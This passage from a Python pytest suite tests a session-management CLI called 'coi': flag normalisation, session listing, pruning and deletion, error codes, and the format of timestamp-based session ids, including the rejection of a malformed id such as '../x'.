    assert [s.to_json() for s in found] == [{"ID": session.id, "SavedAt": session.updated_at,
                                            "Workspace": WORKSPACE, "Tool": "dummy"}]


# -- command lines -------------------------------------------------------------------------


@pytest.mark.parametrize(("argv", "expected"), [
    (["--resume"], ["--resume"]),
    (["--continue"], ["--resume"]),
    (["--resume=s-1"], ["--resume", "--session", "s-1"]),
    (["--continue=s-1", "--slot", "2"], ["--resume", "--session", "s-1", "--slot", "2"]),
    (["run", "--resume", "--", "tool", "--continue=x"],
     ["run", "--resume", "--", "tool", "--continue=x"]),
    (["--resume="], ["--resume", "--session", ""]),
])
def test_resume_flags_are_normalised_for_docopt(argv, expected):
    assert expand_resume_flags(argv) == expected


def run_cli(argv, capsys):
    with pytest.raises(SystemExit) as exited:
        session_main(argv)
    out, err = capsys.readouterr()
    return exited.value.code, out, err


def test_session_word_is_optional(coi_env, capsys, tmp_path):
    state = coi_env.home / ".coi"
    make_session(state, "s-one", workspace=str(tmp_path))
    direct = run_cli(["list", "--workspace", str(tmp_path), "--format", "json"], capsys)
    dispatched = run_cli(["session", "list", "--workspace", str(tmp_path), "--format", "json"],
                         capsys)
    assert direct == dispatched
    assert [r["id"] for r in json.loads(direct[1])["sessions"]] == ["s-one"]


def test_list_json_is_one_document_and_stderr_names_the_corrupt_file(coi_env, capsys,
                                                                     tmp_path):
    state = coi_env.home / ".coi"
    make_session(state, "s-one", workspace=str(tmp_path), updated_at="2026-03-01T00:00:00Z")
    make_session(state, "s-two", workspace=str(tmp_path), updated_at="2026-03-02T00:00:00Z")
    broken = make_session(state, "s-broken", workspace=str(tmp_path))
    Path(broken.path, "metadata.json").write_text("")
    code, out, err = run_cli(["list", "--all", "--format", "json"], capsys)
    assert code == 0
    [listing] = out.splitlines()
    assert [r["id"] for r in json.loads(listing)["sessions"]] == ["s-two", "s-one"]
    assert err.count("\n") == 1
    assert "s-broken/metadata.json" in err


def test_latest_prints_the_id_and_fails_with_3_when_there_is_none(coi_env, capsys, tmp_path):
    code, out, err = run_cli(["latest", "--workspace", str(tmp_path)], capsys)
    assert (code, out) == (3, "")
    assert err.count("\n") == 1
    make_session(coi_env.home / ".coi", "s-one", workspace=str(tmp_path))
    assert run_cli(["latest", "--workspace", str(tmp_path)], capsys)[:2] == (0, "s-one\n")


def test_malformed_ids_are_one_line_errors_also_in_json(coi_env, capsys):
    code, out, err = run_cli(["show", "../x", "--format", "json"], capsys)
    assert code == 2
    assert json.loads(out)["code"] == "bad_input"
    assert err.count("\n") == 1


def test_info_defaults_to_the_latest_of_the_workspace(coi_env, capsys, tmp_path,
                                                       monkeypatch):
    make_session(coi_env.home / ".coi", "s-old", workspace=str(tmp_path),
                 updated_at="2026-01-01T00:00:00Z")
    make_session(coi_env.home / ".coi", "s-new", workspace=str(tmp_path),
                 updated_at="2026-02-01T00:00:00Z")
    monkeypatch.chdir(tmp_path)
    code, out, _ = run_cli(["info"], capsys)
    assert code == 0
    assert out.splitlines()[0].split() == ["session:", "s-new"]


def test_delete_and_prune_print_what_they_deleted(coi_env, capsys, tmp_path):
    for day in (1, 2, 3):
        make_session(coi_env.home / ".coi", f"s-{day}", workspace=str(tmp_path),
                     updated_at=f"2026-01-0{day}T00:00:00Z")
    code, out, _ = run_cli(["delete", "s-3", "--format", "json"], capsys)
    assert (code, json.loads(out)["kind"]) == (0, "session_deleted")
    code, out, _ = run_cli(["prune", "--keep", "1", "--all", "--format", "json"], capsys)
    assert [json.loads(line)["id"] for line in out.splitlines()] == ["s-1"]
    code, out, _ = run_cli(["prune", "--keep", "x", "--all"], capsys)
    assert code == 2


def test_usage_documents_every_verb():
    for verb in ("save", "restore", "list", "latest", "show", "delete", "prune", "info"):
        assert f"[session] {verb}" in SESSION_USAGE or f"coi-session {verb}" in SESSION_USAGE


def test_timestamps_order_saves_within_one_second():
    first = saved_sessions.now_text()
    time.sleep(0.001)
    assert saved_sessions.parse_time(saved_sessions.now_text()) > \
        saved_sessions.parse_time(first)


# --- session ids ------------------------------------------------------------


def test_new_session_ids_are_unique_and_valid():
    ids = [saved_sessions.new_session_id() for _ in range(1000)]
    assert len(set(ids)) == 1000
    for session_id in ids:
        assert naming.validate_session_id(session_id) == session_id
        assert saved_sessions.SESSION_ID_PATTERN.fullmatch(session_id)


def test_new_session_id_starts_with_utc_time():
    moment = datetime(2025, 3, 4, 5, 6, 7, tzinfo=UTC)
    assert saved_sessions.new_session_id(moment).startswith("20250304-050607-")
    local = datetime(2025, 3, 4, 7, 6, 7, tzinfo=timezone(timedelta(hours=2)))
    assert saved_sessions.new_session_id(local).startswith("20250304-050607-")


def test_new_session_ids_sort_by_creation_time():
    early = saved_sessions.new_session_id(datetime(2025, 1, 1, 23, 59, 59, tzinfo=UTC))
    late = saved_sessions.new_session_id(datetime(2025, 1, 2, 0, 0, 0, tzinfo=UTC))
    assert early < late
    assert re.fullmatch(r"20250101-235959-[0-9a-f]{12}", early)
